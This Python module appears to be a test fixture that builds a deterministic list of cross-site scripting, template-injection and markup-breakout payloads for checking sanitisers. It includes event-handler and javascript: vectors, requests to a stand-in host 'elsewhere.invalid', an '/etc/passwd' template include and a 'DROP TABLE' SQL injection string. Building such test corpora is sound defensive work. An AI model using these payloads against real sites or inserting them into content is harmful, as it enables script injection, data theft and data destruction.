"""Three hundred texts that want to be markup, script, attribute, address, style or template.

Built from parts, so that each kind of place (text, attribute, URL, style, template) meets each way
of breaking out of it. A payload that runs would call `window.hit` or ask for an address at
`elsewhere.invalid`.
"""

from __future__ import annotations

from itertools import product

RUN = ("hit()", "window.hit&&hit()", "top['hit']()", "fetch('//elsewhere.invalid/')")
BREAKS = (
    "",
    '"',
    "'",
    ">",
    '">',
    "'>",
    "-->",
    "</td>",
    "</title>",
    "</script>",
    "]]>",
    "`",
    "*/",
    "\n",
)
TAGS = (
    "<script>{run}</script>",
    "<img src=x onerror={run}>",
    "<img src=//elsewhere.invalid/x.png>",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<iframe src=javascript:{run}></iframe>",
    "<iframe src=//elsewhere.invalid/></iframe>",
    "<a href=javascript:{run} autofocus onfocus={run}>x</a>",
    "<details open ontoggle={run}>",
    "<input autofocus onfocus={run}>",
    "<form action=//elsewhere.invalid/><button>x</button></form>",
    "<link rel=stylesheet href=//elsewhere.invalid/x.css>",
    "<style>@import '//elsewhere.invalid/x.css';</style>",
    "<meta http-equiv=refresh content='0;url=//elsewhere.invalid/'>",
    "<base href=//elsewhere.invalid/>",
    "<object data=javascript:{run}></object>",
    "<video><source onerror={run}></video>",
    "<math><mtext><img src=x onerror={run}></mtext></math>",
    "<div hx-get=//elsewhere.invalid/ hx-trigger=load>x</div>",
    "<div hx-on:load='{run}' hx-trigger=load>x</div>",
    "<b data-progress=//elsewhere.invalid/>x</b>",
)
ATTRIBUTES = (
    " onmouseover={run} ",
    ' autofocus onfocus={run} x="',
    "' style=background:url(//elsewhere.invalid/) '",
    ' hx-get="//elsewhere.invalid/" hx-trigger="load" x="',
)
TEMPLATES = (
    "{{ 7 * 7 }}{run}",
    "{% include '/etc/passwd' %}{run}",
    "${ {run} }",
    "<%= {run} %>",
    "javascript:{run}",
    "data:text/html,<script>{run}</script>",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;script&#62;{run}&#60;/script&#62;",
    "\\u003cscript\\u003e{run}",
    "%3Cscript%3E{run}%3C/script%3E",
    "\u202e<script>{run}</script>",
    "\ufeff<ſcript>{run}</ſcript>",
    "<scr\x00ipt>{run}</scr\x00ipt>",
    "[x](javascript:{run})",
    "![x](//elsewhere.invalid/x.png)",
    "'; DROP TABLE patients; -- {run}",
)


def payloads() -> list[str]:
    """The texts, each once, in an order that does not change."""
    shapes = [
        *(outer + tag for outer, tag in product(BREAKS, TAGS)),
        *(quote + attribute for quote, attribute in product(('"', "'"), ATTRIBUTES)),
        *TEMPLATES,
    ]
    texts = [shape.replace("{run}", RUN[number % len(RUN)]) for number, shape in enumerate(shapes)]
    return list(dict.fromkeys(texts))
